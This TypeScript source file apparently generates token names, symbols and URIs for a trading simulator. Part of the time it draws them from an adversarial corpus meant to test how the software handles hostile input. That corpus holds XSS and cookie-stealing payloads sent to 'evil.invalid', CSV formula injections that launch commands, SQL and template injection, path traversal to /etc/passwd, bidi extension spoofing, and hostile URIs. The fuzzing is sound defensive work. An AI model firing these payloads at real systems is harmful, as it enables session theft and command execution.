import type { Rng } from "../../rng.ts";
import { chance } from "./sampling.ts";

/** Token metadata as a launcher chooses it: attacker-controlled text. */
export interface TokenText {
  name: string;
  symbol: string;
  uri: string;
  /** True when the text was drawn from the adversarial corpus (for tests and the referee). */
  adversarial: boolean;
}

const WORDS = [
  "Moon", "Pepe", "Doge", "Cat", "Frog", "Based", "Giga", "Chad", "Rocket", "Wif", "Hat", "Bonk", "Sol",
  "Turbo", "Baby", "Inu", "Elon", "Pump", "Degen", "Ape", "Shiba", "Floki", "Wojak", "Mog", "Wen", "Gm",
  "Banana", "Trump", "AI", "Agent", "Goat", "Popcat", "Fart", "Coin", "Cult", "Meme", "Lambo", "Diamond",
];

/** Builders of hostile names: markup, CSV formulas, control and bidi characters, long and odd text. */
const HOSTILE: ReadonlyArray<(rng: Rng, maxLength: number) => string> = [
  () => `<img src=x onerror=alert(1)>`,
  () => `<script>alert(document.cookie)</script>`,
  () => `"><svg/onload=fetch('//evil.invalid/'+document.cookie)>`,
  () => `=cmd|' /C calc'!A0`,
  () => `=HYPERLINK("http://evil.invalid/?x="&A1,"click")`,
  () => `+1+cmd|' /C calc'!A0`,
  () => `-2+3+cmd|' /C calc'!A0`,
  () => `@SUM(1+1)*cmd|' /C calc'!A0`,
  () => `\tTAB=1+1`,
  () => `MOON\r\n{"level":50,"msg":"private key leaked"}`,
  () => `\u001b[31mRED\u001b[0m\u0007`,
  () => `NUL\u0000BYTE`,
  () => `\u202Egpj.exe`,
  () => `SAFE\u202Dcoin\u2066x\u2069`,
  () => `zero\u200bwidth\u200d\ufeff`,
  () => `🚀🌕💎🙌 MOON 🐸`,
  () => `👨‍👩‍👧‍👦🏳️‍🌈`,
  () => `'; DROP TABLE trades;--`,
  () => `\${7*7}{{7*7}}<%= 7*7 %>`,
  () => `../../../../etc/passwd`,
  () => `%s%s%s%n`,
  () => `Z̷̢̛͎͉̈́a̸̢͓̓l̴̰̊g̶̣̈o̵͕͝`,
  (rng, max) => "A".repeat(Math.max(1, Math.min(max, rng.int(200, 4096)))),
  (rng, max) => "🚀".repeat(Math.max(1, Math.floor(Math.min(max, rng.int(100, 1024)) / 2))),
  () => ``,
  () => `   `,
];

const HOSTILE_URIS: readonly string[] = [
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "http://127.0.0.1:8787/control/sell-all",
  "file:///etc/passwd",
  "https://evil.invalid/\u202Ejson.exe",
];

/** Clips a string to at most `max` UTF-16 units without splitting a surrogate pair. */
function clip(s: string, max: number): string {
  if (s.length <= max) return s;
  let end = max;
  const code = s.charCodeAt(end - 1);
  if (code >= 0xd800 && code <= 0xdbff) end -= 1;
  return s.slice(0, end);
}

/** Draws a token's name, symbol and uri; with probability `adversarialShare` the text is hostile. */
export function drawTokenText(rng: Rng, serial: number, adversarialShare: number, maxLength: number): TokenText {
  if (chance(rng, adversarialShare)) {
    const name = clip(HOSTILE[rng.int(0, HOSTILE.length - 1)]!(rng, maxLength), maxLength);
    const symbol = clip(HOSTILE[rng.int(0, HOSTILE.length - 1)]!(rng, maxLength), maxLength);
    const uri = chance(rng, 0.5) ? HOSTILE_URIS[rng.int(0, HOSTILE_URIS.length - 1)]! : metadataUri(serial);
    return { name, symbol, uri, adversarial: true };
  }
  const a = WORDS[rng.int(0, WORDS.length - 1)]!;
  const b = WORDS[rng.int(0, WORDS.length - 1)]!;
  const name = chance(rng, 0.3) ? `${a} ${b} ${rng.int(2, 9)}` : `${a} ${b}`;
  const symbol = (a.slice(0, 2) + b.slice(0, 3)).toUpperCase();
  return { name, symbol, uri: metadataUri(serial), adversarial: false };
}

function metadataUri(serial: number): string {
  return `https://sim.invalid/meta/${serial}.json`;
}
